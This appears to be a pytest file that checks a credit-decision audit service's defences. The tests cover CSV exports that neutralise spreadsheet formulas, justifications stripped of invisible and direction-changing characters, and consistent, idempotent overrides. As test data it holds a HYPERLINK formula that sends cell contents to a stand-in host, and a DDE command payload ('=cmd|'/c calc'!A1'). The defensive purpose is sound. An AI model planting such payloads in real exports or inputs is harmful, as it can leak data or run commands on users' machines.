"""Hardening (#17) on SQLite and PostgreSQL: no formula in an export, text from outside drawn
as text, justifications counted as a reader sees them, overrides that cannot contradict
themselves and survive a double submit."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime

import pytest
from sqlalchemy import Engine, func, select

from services.audit.trail import AuditFilter, export_events, verify_chain
from services.core.errors import InvalidInput
from services.core.justification import MAX_JUSTIFICATION, justified
from services.core.principal import Principal, Role
from services.core.spreadsheet import inert_cell
from services.core.visible import visible, visible_length
from services.decisions.overrides import CONFIRMED, REVIEWED, override_decision, reasons_for
from services.governance.sign_in import SignInRefused, sign_in
from services.store.engine import session_scope
from services.store.models import AuditEvent, Decision, Override

ANALYST = Principal("ana", "Ana Lyst", frozenset({Role.ANALYST}))
FORMULA = '=HYPERLINK("http://x.example/?q="&A1,"Open")'
WHY = "Income proof arrived after the decision; affordability now passes."
RLO, ZWSP = "\u202e", "\u200b"


def _decision(engine: Engine, decision_id: str, outcome: str = "declined") -> None:
    with session_scope(engine) as session:
        session.add(Decision(decision_id=decision_id, model_name="credit-risk",
                             model_version="2", decided_at=datetime(2026, 11, 1, 9),
                             subject_ref="app-1", features={"income": 1.0}, score=0.3,
                             threshold=0.5, outcome=outcome, shadow=False,
                             escalation_reason="low_confidence" if outcome == "escalated"
                             else None))


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode())) for cell in row]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", FORMULA])
def test_a_cell_a_spreadsheet_would_evaluate_is_made_text(value: str) -> None:
    assert inert_cell(value) == "'" + value
    assert inert_cell(-3) == -3 and inert_cell("credit-risk") == "credit-risk"


def test_a_formula_planted_through_sign_in_or_ingest_reaches_the_csv_as_text(
        engine: Engine) -> None:
    with pytest.raises(SignInRefused):
        sign_in(engine=engine, username=FORMULA, password="whatever it is")
    _decision(engine, "=cmd|'/c calc'!A1")
    override_decision(engine=engine, actor=ANALYST, decision_id="=cmd|'/c calc'!A1",
                      new_outcome="approved", reason_category="complaint upheld",
                      justification=WHY)
    with session_scope(engine) as session:
        data = export_events(session=session, filters=AuditFilter(), fmt="csv")
        faithful = json.loads(export_events(session=session, filters=AuditFilter(), fmt="json"))
    cells = _csv_cells(data)
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=cmd|'/c calc'!A1" in cells
    # JSON stays byte-faithful: the id exactly as ingested.
    assert any(e["subject_id"] == "=cmd|'/c calc'!A1" for e in faithful)


def test_invisible_and_direction_changing_characters_are_dropped() -> None:
    assert visible(f"ab{RLO}cd{ZWSP}e\u2066f\u2069\u00ad") == "abcdef"
    assert visible("line one\nline\ttwo") == "line one\nline\ttwo"
    assert visible_length(ZWSP * 25) == 0 and visible_length("a b") == 2


@pytest.mark.parametrize("text", [ZWSP * 25, " " * 30, f"{RLO}{ZWSP * 10}short text",
                                  "\u2060" * 40])
def test_a_justification_is_counted_in_visible_characters(text: str) -> None:
    with pytest.raises(InvalidInput, match="visible characters"):
        justified(text)


def test_a_justification_is_stored_without_bidi_controls_and_never_cut() -> None:
    assert justified(f"{RLO}The applicant sent proof of income.") == \
        "The applicant sent proof of income."
    with pytest.raises(InvalidInput, match="limit"):
        justified("x" * (MAX_JUSTIFICATION + 1))
    assert len(justified("y" * MAX_JUSTIFICATION)) == MAX_JUSTIFICATION


@pytest.mark.parametrize(("logged", "verdict", "offered"), [
    ("declined", "declined", (CONFIRMED,)),
    ("approved", "approved", (CONFIRMED,)),
])
def test_only_an_unchanged_verdict_is_confirmed(logged: str, verdict: str,
                                                offered: tuple[str, ...]) -> None:
    assert reasons_for(logged, verdict) == offered
    other = "approved" if verdict == "declined" else "declined"
    assert CONFIRMED not in reasons_for(logged, other)
    assert REVIEWED in reasons_for("escalated", verdict)
    assert CONFIRMED not in reasons_for("error", verdict)


def test_a_changed_verdict_cannot_be_confirmed_as_decided(engine: Engine) -> None:
    _decision(engine, "d-1", outcome="declined")
    with pytest.raises(InvalidInput, match="does not go with"):
        override_decision(engine=engine, actor=ANALYST, decision_id="d-1",
                          new_outcome="approved", reason_category=CONFIRMED, justification=WHY)
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(Override)) == 0
        refused = session.scalars(select(AuditEvent.action)).all()
    assert refused == ["decision.override.refused"]


def test_the_same_verdict_sent_twice_is_stored_once(engine: Engine) -> None:
    _decision(engine, "d-2", outcome="escalated")
    first = override_decision(engine=engine, actor=ANALYST, decision_id="d-2",
                              new_outcome="declined", reason_category=REVIEWED,
                              justification=WHY)
    again = override_decision(engine=engine, actor=ANALYST, decision_id="d-2",
                              new_outcome="declined", reason_category=REVIEWED,
                              justification=f" {WHY} ")
    assert again.id == first.id
    changed = override_decision(engine=engine, actor=ANALYST, decision_id="d-2",
                                new_outcome="approved", reason_category="complaint upheld",
                                justification=WHY)
    assert changed.id != first.id
    with session_scope(engine) as session:
        assert session.scalar(select(func.count()).select_from(Override)) == 2
        assert verify_chain(session=session).intact


def test_a_failed_closed_decision_with_text_in_a_banded_input_counts_as_missing(
        engine: Engine) -> None:
    from services.core.clock import utcnow
    from services.evidence.groups import MISSING_GROUP
    from services.evidence.representation import decided_population

    with session_scope(engine) as session:
        for n, age in enumerate((23, 31.5, "unknown", None)):
            session.add(Decision(decision_id=f"age-{n}", model_name="credit-risk",
                                 model_version="2", decided_at=utcnow(), subject_ref=f"a{n}",
                                 features={"age": age}, score=0.4, threshold=0.5,
                                 outcome="error" if isinstance(age, str) else "declined",
                                 shadow=False))
    with session_scope(engine) as session:
        counts = decided_population(session=session, model_name="credit-risk", feature="age",
                                    continuous=True, edges=[25, 40, 60])
    assert counts == {"<25": 1, "25-39": 1, MISSING_GROUP: 2}
